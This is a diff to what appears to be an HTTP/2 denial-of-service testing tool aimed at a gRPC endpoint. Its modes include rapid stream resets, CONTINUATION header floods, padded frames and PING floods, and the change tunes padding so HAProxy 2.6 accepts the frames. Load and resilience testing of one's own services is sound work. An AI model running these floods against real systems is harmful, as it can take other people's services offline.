@@ -13,7 +13,7 @@ ATTACK   resets         HEADERS, DATA and RST_STREAM, --streams of them on each 
          string         headers that do not end: a literal announced as 256 MiB, --mebibytes of it
                         in CONTINUATION frames of 1 KiB
          bare           HEADERS and RST_STREAM alone
-         padded         the same as resets, with 255 bytes of padding in each frame
+         padded         the same as resets, with 255 bytes of padding in HEADERS, and 4 in DATA
          pings          --streams PING frames
          idle           connections, without a call
          continuation   the same with headers that are complete, one after the other
@@ -57,15 +57,15 @@ def reset_stream(attack, stream, path):
     if attack == "resets":
         return frame(HEADERS, END_HEADERS, stream, path) \
             + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) + reset
-    padding = b"\0" * 255
-    return frame(HEADERS, END_HEADERS | PADDED, stream, b"\xff" + path + padding) \
-        + frame(DATA, END_STREAM | PADDED, stream, b"\xff" + EMPTY_MESSAGE + padding) + reset
+    # (DATA with much more padding than data is a protocol error to HAProxy 2.6.)
+    return frame(HEADERS, END_HEADERS | PADDED, stream, b"\xff" + path + b"\0" * 255) \
+        + frame(DATA, END_STREAM | PADDED, stream, b"\x04" + EMPTY_MESSAGE + b"\0" * 4) + reset
 
 
 def send_resets(connection, arguments):
     """Returns how many streams were reset."""
     path = headers_of("/companyService.CompanyService/companyAvailable")
-    of_window = {"resets": len(EMPTY_MESSAGE), "bare": 0, "padded": len(EMPTY_MESSAGE) + 256}
+    of_window = {"resets": len(EMPTY_MESSAGE), "bare": 0, "padded": len(EMPTY_MESSAGE) + 5}
     begin, sent = time.monotonic(), 0
     batch = min(200, arguments.rate // 20 or 1) if arguments.rate else 200
     while sent < arguments.streams:
